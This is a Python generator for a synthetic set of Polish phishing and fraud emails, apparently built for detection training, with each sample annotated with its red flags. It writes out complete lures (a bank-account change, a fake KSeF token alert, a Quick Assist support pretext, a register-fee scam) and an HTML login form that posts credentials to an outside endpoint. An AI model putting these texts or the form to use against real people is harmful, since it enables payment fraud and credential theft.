"""Attack messages 22-26 (Polish)."""
from common import T, addr, text, attach, attach_text, multi, boundary, esc, H, ALNUM
from company import E, A, MID, TI, IBAN_A22, IBAN_A25, NIP_PARTNER, NIP_EXAMPLE_PL, NIP_KARTONEX
from reg import attack, alt, mixed, pdf_att
import infra
import finance as fi
import docs

PARTNER_TENANT = dict(org='partner-logistik.pl', srv='VI1PR07MB6271', region='eurprd07',
                      obe=('EUR05-VI1-obe', 'mail-vi1eur05on2097', '40.107.21.97'))


@attack(22, 'pl', 'partner-logistik-zmiana-rachunku',
        'Logistics-partner bank change: "Księgowość Partner Logistik" gives a new Santander account, says it '
        '"may appear on the VAT white list with a delay" and asks to pay two overdue invoices there.',
        'Look-alike partner-logistik.com.pl (real: partner-logistik.pl) on a VPS; the excuse about the VAT '
        'white list pre-empts the check Polish accountants must make (an account not on the list costs '
        'the VAT deduction protection); overdue-invoice pressure; confirmation by e-mail.')
def a22(m):
    t = T(2026, 11, 16, 10, 3, 38)
    sender = 'ksiegowosc@partner-logistik.com.pl'
    f = dict(sender=sender, rcpt=E('pl_acc'), frm=addr('Księgowość Partner Logistik', sender, 'iso-8859-2'),
             to=A('pl_acc', 'iso-8859-2'), subject='Zmiana rachunku bankowego - Partner Logistik sp. z o.o.',
             scs=('iso-8859-2', 'Q'), zone='PL')
    infra.postfix_host(m, t, f, 'mail.partner-logistik.com.pl', 'vps-91c4d2ab.vps.ovh.net', '51.68.191.12',
                       '45.134.26.61', client_helo='KSIEGOWOSC-PC', ua=infra.XM_OL16, zone='PL', mid_style='outlook')
    nrb = fi.nrb(IBAN_A22)
    src = """Dzień dobry Panie Pawle,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę od dnia 16.11.2026 r. wszelkie płatności na rzecz Partner Logistik sp. z o.o. prosimy kierować na nowy rachunek:

Santander Bank Polska S.A.
nr rachunku: %s

Nowy rachunek został zgłoszony do urzędu skarbowego i będzie widoczny w wykazie podatników VAT (tzw. białej liście) - aktualizacja wykazu może nastąpić z kilkudniowym opóźnieniem. Dotychczasowy rachunek w PKO BP zostanie zamknięty z końcem miesiąca.

Prosimy o uregulowanie na nowy rachunek faktur FV/2026/10/1187 oraz FV/2026/10/1203 (łącznie 38 412,77 zł brutto), których termin płatności upłynął 10.11.2026.

Pismo potwierdzające zmianę, podpisane przez Zarząd, przesyłamy w załączniku. Prosimy o potwierdzenie aktualizacji danych zwrotną wiadomością.

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Przemysłowa 12, 62-052 Komorniki
NIP %s
""" % (nrb, fi.fmt_nip(NIP_PARTNER))
    pdf = docs.letter(
        ['Partner Logistik sp. z o.o.', 'ul. Przemysłowa 12, 62-052 Komorniki · NIP ' + fi.fmt_nip(NIP_PARTNER),
         'KRS 0000412877 · Sąd Rejonowy Poznań – Nowe Miasto i Wilda'],
        ['Example Polska sp. z o.o.', 'ul. Grunwaldzka 182', '60-166 Poznań'],
        'Komorniki, 13.11.2026', 'Zawiadomienie o zmianie rachunku bankowego',
        ['Szanowni Państwo,', '',
         'informujemy, że z dniem 16.11.2026 r. zmianie ulega rachunek bankowy spółki. Płatności prosimy '
         'kierować na rachunek:', '',
         'Santander Bank Polska S.A.', 'nr ' + nrb, '',
         'Pozostałe dane spółki pozostają bez zmian.'],
        ['Z poważaniem', '', 'Prezes Zarządu', 'Grzegorz Wiśniewski'],
        ['Partner Logistik sp. z o.o. · kapitał zakładowy 500 000 zł'], t, zone='PL',
        title='Zawiadomienie', author='Ksiegowosc', creator='Microsoft® Word 2019', producer='Microsoft® Word 2019')
    m.body = mixed(m, 'nextpart', alt(m, 'nextpart', src, 'iso-8859-2', lang='PL'),
                   pdf_att(pdf, 'Zawiadomienie_zmiana_rachunku.pdf', style='plain'))


KSEF_HTML = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b;background:#f2f2f2">
<div style="max-width:600px;margin:16px auto;background:#fff">
<div style="background:#c00b2a;color:#fff;padding:14px 20px;font-size:17px"><b>KSeF</b> · Krajowy System e-Faktur</div>
<div style="padding:20px;line-height:20px">%(body)s
<p style="text-align:center;margin:22px"><a href="%(url)s" style="background:#c00b2a;color:#fff;padding:10px 22px;text-decoration:none"><b>Pobierz fakturę</b></a></p>
<p style="font-size:12px;color:#666">Ministerstwo Finansów · Krajowa Administracja Skarbowa</p></div></div></body></html>
"""


@attack(23, 'pl', 'ksef-token-faktura',
        '"KSeF" notification of a new structured invoice (from the real carton supplier) with a demand to '
        're-authorise the KSeF token within 48 hours via a download button.',
        'KSeF (mandatory since 2026) does not e-mail invoices or token warnings; SendGrid mail from '
        'ksef-podatki.pl; the button goes to a fake "Aplikacja Podatnika" login collecting profil zaufany / '
        'bank-login credentials. Uses a real supplier name for credibility; the genuine supplier invoice is '
        'business 24.')
def a23(m):
    t = T(2026, 11, 18, 6, 40, 55)
    sender = 'powiadomienia@ksef-podatki.pl'
    f = dict(sender=sender, rcpt=E('pl_acc'), frm=addr('KSeF - Krajowy System e-Faktur', sender),
             to=E('pl_acc'), subject='Nowa faktura ustrukturyzowana oczekuje na odbiór – KSeF')
    infra.sendgrid(m, t, f, '167.89.101.212', 'o2.ptr2271.ksef-podatki.pl', 'em2271.ksef-podatki.pl')
    url = 'https://url2271.ksef-podatki.pl/ls/click?upn=u001.' + H(m.seed('u'), 140, ALNUM + '-') + '-3D'
    ksef = '%s-20261117-%s-%s' % (NIP_KARTONEX, H(m.seed('k'), 12, '0123456789ABCDEF'), H(m.seed('k2'), 2, '0123456789ABCDEF'))
    body = """Szanowni Państwo,

w Krajowym Systemie e-Faktur zarejestrowano nową fakturę ustrukturyzowaną wystawioną dla podmiotu:
EXAMPLE POLSKA SP. Z O.O., NIP %s

Numer KSeF: %s
Wystawca: KARTONEX SP. Z O.O. (NIP %s)
Kwota brutto: 24 918,30 PLN
Termin płatności: 25.11.2026

W związku ze zmianą zasad uwierzytelniania od 1 listopada 2026 r. dostęp do faktur wymaga ponownej autoryzacji tokenu. Aby pobrać fakturę wraz z wizualizacją PDF, zaloguj się do Aplikacji Podatnika KSeF. Token, który nie zostanie potwierdzony w ciągu 48 godzin, zostanie unieważniony.
""" % (NIP_EXAMPLE_PL, ksef, NIP_KARTONEX)
    plain = body + '\nPobierz fakturę: %s\n\nMinisterstwo Finansów\nKrajowa Administracja Skarbowa\n' % url
    hb = ''.join('<p>%s</p>' % esc(p).replace('\n', '<br>') for p in body.strip().split('\n\n'))
    m.body = multi('alternative', [text(plain, 'utf-8', 'quoted-printable'),
                                   text(KSEF_HTML % dict(body=hb, url=esc(url)), 'utf-8', 'quoted-printable', 'html')],
                   boundary('hex', m.seed('alt')))


@attack(24, 'pl', 'helpdesk-teams-pomoc-zdalna',
        '"IT support" announces a Teams call about a spam flood on the recipient\'s mailbox and asks her to '
        'open Quick Assist (Pomoc zdalna) and not to call IT in Neuss.',
        'Teams/remote-access vishing pretext (Storm-1811 / Black Basta pattern): sent from an external '
        'examplegroupit.onmicrosoft.com tenant, not from example.com; mail-bombing as cover; remote '
        'control via Quick Assist; discourages verification with the real IT (business 26 warns of exactly this).')
def a24(m):
    t = T(2026, 11, 19, 8, 26, 14)
    sender = 'helpdesk@examplegroupit.onmicrosoft.com'
    f = dict(sender=sender, rcpt=E('pl_mgr'), frm=addr('Help Desk IT – Example Group', sender),
             to=A('pl_mgr', 'utf-8'), subject='Zgłoszenie INC0048213: masowa wysyłka spamu na Pani skrzynkę – kontakt przez Teams')
    st = infra.m365(m, t, f, 'examplegroupit.onmicrosoft.com', 'PA4PR08MB7406', 'eurprd08',
                    ('EUR03-AM7-obe', 'mail-am7eur03on2119', '40.107.105.119'), lang='pl-PL')
    src = """Dzień dobry Pani Agnieszko,

nasz system ochrony poczty wykrył, że od wczoraj na Pani skrzynkę trafia masowo niechciana korespondencja (tzw. mail bombing – kilkaset wiadomości z zapisów do newsletterów). Taki atak jest często wstępem do próby przejęcia konta.

Aby go zatrzymać, musimy skonfigurować dodatkowy filtr bezpośrednio na Pani komputerze. W ciągu najbliższej godziny skontaktuje się z Panią nasz specjalista przez Microsoft Teams (konto „Help Desk – Example Group”). Prosimy zaakceptować czat i połączenie oraz przygotować aplikację Pomoc zdalna (Quick Assist), dostępną w menu Start systemu Windows. Specjalista poda Pani kod zabezpieczający.

Prosimy nie zgłaszać sprawy telefonicznie do działu IT w Neuss – zgłoszenie jest już w realizacji, a kolejne zgłoszenia wydłużą czas obsługi.

Pozdrawiamy
Zespół wsparcia IT
Example Group
"""
    m.body = alt(m, st, src, 'windows-1250', lang='PL')


@attack(25, 'pl', 'rejestr-dzialalnosci-oplata',
        'Fake register fee: "Centralny Rejestr Działalności Gospodarczej i Spółek" asks Example Polska to pay '
        'PLN 1,394 for publication of its KRS data, payment form as PDF.',
        'Classic Polish register scam imitating KRS/CEIDG: private database, fee disguised as mandatory, '
        'small print "not a court fee"; mass mailing by a PHP script on shared hosting, payee account at '
        'mBank with no relation to any authority.')
def a25(m):
    t = T(2026, 11, 23, 9, 14, 7)
    sender = 'rejestracja@crdgis.pl'
    f = dict(sender=sender, rcpt=E('pl_mgr'), frm=addr('Centralny Rejestr Działalności Gospodarczej i Spółek', sender, 'windows-1250', 'B'),
             to=E('pl_mgr'), subject='Wpis do CRDGiS – EXAMPLE POLSKA SP. Z O.O. (KRS 0000587214) – opłata rejestracyjna',
             scs=('windows-1250', 'B'))
    infra.exim_cpanel(m, t, f, 's152.cyber-folks.pl', '195.78.66.152', zone='PL', local_user='crdgis',
                      script='1003:send.php')
    nrb = fi.nrb(IBAN_A25)
    src = """Dotyczy: wpis do Centralnego Rejestru Działalności Gospodarczej i Spółek – EXAMPLE POLSKA SP. Z O.O.

W związku z rejestracją Państwa podmiotu w Krajowym Rejestrze Sądowym (KRS 0000587214) informujemy o możliwości aktualizacji i publikacji danych w Centralnym Rejestrze Działalności Gospodarczej i Spółek. W załączeniu przesyłamy formularz wraz z danymi do przelewu opłaty rejestracyjnej w wysokości 1 394,00 zł.

Termin płatności: 7 dni od daty otrzymania.
Numer rachunku: %s
Tytułem: CRDGiS/2026/11/4471

Z poważaniem
Dział Rejestracji CRDGiS

Opłata dotyczy publikacji danych w prywatnej bazie informacyjnej i nie jest opłatą sądową ani urzędową. Dokonanie wpłaty oznacza akceptację regulaminu i zamówienie usługi na okres 12 miesięcy.
""" % nrb
    pdf = docs.invoice(
        ['CRDGiS', 'Centralny Rejestr Działalności Gospodarczej i Spółek · ul. Marszałkowska 140 · 00-061 Warszawa'],
        ['EXAMPLE POLSKA SP. Z O.O.', 'ul. Grunwaldzka 182', '60-166 Poznań'],
        [('Nr', 'CRDGiS/2026/11/4471'), ('Data', '23.11.2026'), ('KRS', '0000587214'), ('Termin', '7 dni')],
        [('1', 'Wpis i publikacja danych – 12 mies.', '1', '1 394,00 zł', '1 394,00 zł')],
        [('Razem do zapłaty', '1 394,00 zł')],
        ['Rachunek: ' + nrb + ', tytułem CRDGiS/2026/11/4471.',
         'Usługa ma charakter informacyjny i komercyjny. Wpłata oznacza zawarcie umowy. CRDGiS nie jest organem '
         'administracji publicznej.'],
        ['CRDGiS'], t, zone='PL', title='Formularz', creator='TCPDF', producer='TCPDF 6.6.2',
        cols=('Lp.', 'Opis', 'Ilość', 'Cena', 'Wartość'), doc_title='FORMULARZ OPŁATY')
    m.body = mixed(m, 'phpmailer', text(src, 'windows-1250', '8bit'),
                   attach(pdf, 'application/pdf', 'Formularz_oplaty_CRDGiS_2026_11_4471.pdf'))


PL_LOGIN_HTML = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>Dokument udostępniony – OneDrive</title>
<style>body{font-family:"Segoe UI",Arial;background:#f2f2f2;margin:0}.c{width:440px;margin:80px auto;background:#fff;padding:40px}
input{width:100%%;border:0;border-bottom:1px solid #888;padding:8px 0;margin:10px 0 18px;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px}</style></head>
<body><div class="c">
<div style="font-size:13px;color:#666">Partner Logistik sp. z o.o. udostępnił(a) plik</div>
<h2 style="font-weight:600">WZ_2026_11_0412_skan.pdf</h2>
<p style="font-size:14px">Aby wyświetlić zabezpieczony dokument, zaloguj się kontem służbowym.</p>
<form action="%(action)s" method="post">
<input type="email" name="u" value="%(email)s">
<input type="password" name="p" placeholder="Hasło">
<button type="submit">Zaloguj</button></form>
</div></body></html>
"""


@attack(26, 'pl', 'partner-logistik-przejety-watek',
        'Reply in the real delivery-advice thread from Tadeusz Zieliński\'s genuine Partner Logistik mailbox: '
        'the "signed WZ scan and discrepancy report" is an HTML file asking for a Microsoft login.',
        'Compromised partner mailbox (genuine tenant and thread, quoted history) used for credential '
        'phishing: the attachment is an HTML login form posting to an azurewebsites.net app, not a PDF '
        'scan; wording is generic. The genuine message in this thread is business 23 (real PDF).')
def a26(m):
    t = T(2026, 11, 20, 5, 52, 19)
    sender = 't.zielinski@partner-logistik.pl'
    f = dict(sender=sender, rcpt=E('pl_log'), frm=addr('Tadeusz Zieliński', sender, 'utf-8'),
             to=A('pl_log', 'utf-8'), subject='RE: Awizacja dostawy – zlecenie PL/26/11/0412',
             topic='Awizacja dostawy – zlecenie PL/26/11/0412', irt=MID['pl_awizo_re2'],
             refs='%s %s %s' % (MID['pl_awizo'], MID['pl_awizo_re'], MID['pl_awizo_re2']),
             thread_index=infra.thread_index_reply(infra.thread_index_reply(TI['pl'], 'p1', 26000), 'p2', 150000))
    st = infra.m365(m, t, f, attach=True, lang='pl-PL', **PARTNER_TENANT)
    src = """Dzień dobry Panie Michale,

w załączeniu przesyłam skan podpisanego dokumentu WZ oraz protokół rozbieżności do dostawy z 17.11. Dokument jest zabezpieczony – proszę otworzyć załącznik i zalogować się kontem służbowym Microsoft, żeby go wyświetlić.

Pozdrawiam
Tadeusz Zieliński
Opiekun Klienta
Partner Logistik sp. z o.o.
tel. +48 61 811 42 70

Od: Michał Kowalczyk <michal.kowalczyk@examplegroup.eu>
Wysłane: środa, 18 listopada 2026 14:02
Do: Tadeusz Zieliński <t.zielinski@partner-logistik.pl>
Temat: RE: Awizacja dostawy – zlecenie PL/26/11/0412

Panie Tadeuszu,
dziękuję, proszę jeszcze o skan podpisanego WZ do dostawy z 17.11 – potrzebujemy go do rozliczenia z Drogerie Jaśmin.

Pozdrawiam
Michał Kowalczyk
"""
    html = PL_LOGIN_HTML % dict(action='https://pl-docview-7731.azurewebsites.net/api/auth', email=E('pl_log'))
    m.body = mixed(m, st, alt(m, st, src, 'utf-8', lang='PL', cte='base64'),
                   attach_text(html, 'text/html', 'WZ_2026_11_0412_skan.htm', 'utf-8', 'base64', size_param=True))
